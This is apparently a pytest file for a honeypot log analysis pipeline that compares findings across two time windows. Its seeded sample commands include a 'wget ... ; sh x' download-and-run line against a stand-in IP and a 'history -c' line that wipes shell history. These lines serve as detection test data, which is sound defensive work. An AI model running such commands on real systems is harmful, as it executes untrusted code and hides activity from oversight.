"""Two reports side by side: new, gone, graver, milder, risen, fallen; and what the tables hold of each."""

from datetime import timedelta

import pytest
from sqlalchemy import Engine

from rustbucket_pipeline.analysis.difference import Difference, difference, lines_of_difference
from rustbucket_pipeline.analysis.digest import digest_of
from rustbucket_pipeline.analysis.findings import Finding
from rustbucket_pipeline.analysis.report import report_at_once
from rustbucket_pipeline.analysis.severity import Severity
from rustbucket_pipeline.model.window import FOUR_HOURS, Window
from rustbucket_pipeline_tests.analysis.seeding import WINDOW, command, tell

LATER = Window(WINDOW.end, FOUR_HOURS)


def compared(database: Engine, **severities: Severity) -> Difference:
    """The window against the one after it; some rules' severities in the later one changed."""
    with database.connect() as connection:
        before, after = report_at_once(connection, WINDOW), report_at_once(connection, LATER)
        digest_of(connection, WINDOW)

        def changed(finding: Finding) -> Finding:
            return finding.model_copy(update={"severity": severities.get(finding.rule, finding.severity)})

        after = after.model_copy(update={"findings": tuple(map(changed, after.findings))})
        return difference(connection, before, after)


def changes(found: Difference) -> dict[str, str]:
    return {one.rule: one.change for one in found.findings}


def test_findings_are_new_gone_risen_or_fallen(database: Engine) -> None:
    tell(database, [command("uname -a", at) for at in range(4)] + [command("whoami"), command("history -c")])
    later = [
        command(line, LATER.start + timedelta(seconds=at)) for at, line in enumerate(("uname -a", "whoami", "whoami"))
    ]
    tell(database, [*later, command("wget http://203.0.113.9/x; sh x", LATER.start)])
    found = compared(database)
    assert changes(found) == {
        "download-and-run": "new",
        "system-discovery": "fallen",
        "user-discovery": "risen",
        "history-wiped": "gone",
    }
    assert (found.severity_before, found.severity_after) == ("medium", "high")
    assert (found.indicators.new, found.indicators.gone, found.indicators.both) == (2, 0, 0)
    assert next(line.text for line in lines_of_difference(found)).endswith("1 new findings")


@pytest.mark.parametrize(("severity", "change"), [(Severity.CRITICAL, "graver"), (Severity.INFO, "milder")])
def test_a_changed_severity_says_which_way(database: Engine, severity: Severity, change: str) -> None:
    tell(database, [command("uname -a"), command("uname -a", LATER.start)])
    assert changes(compared(database, **{"system-discovery": severity})) == {"system-discovery": change}


def test_the_same_again_is_no_difference(database: Engine) -> None:
    tell(database, [command("uname -a"), command("uname -a", LATER.start)])
    found = compared(database)
    assert found.findings == ()
    assert next(line.text for line in lines_of_difference(found)).endswith("no new finding")
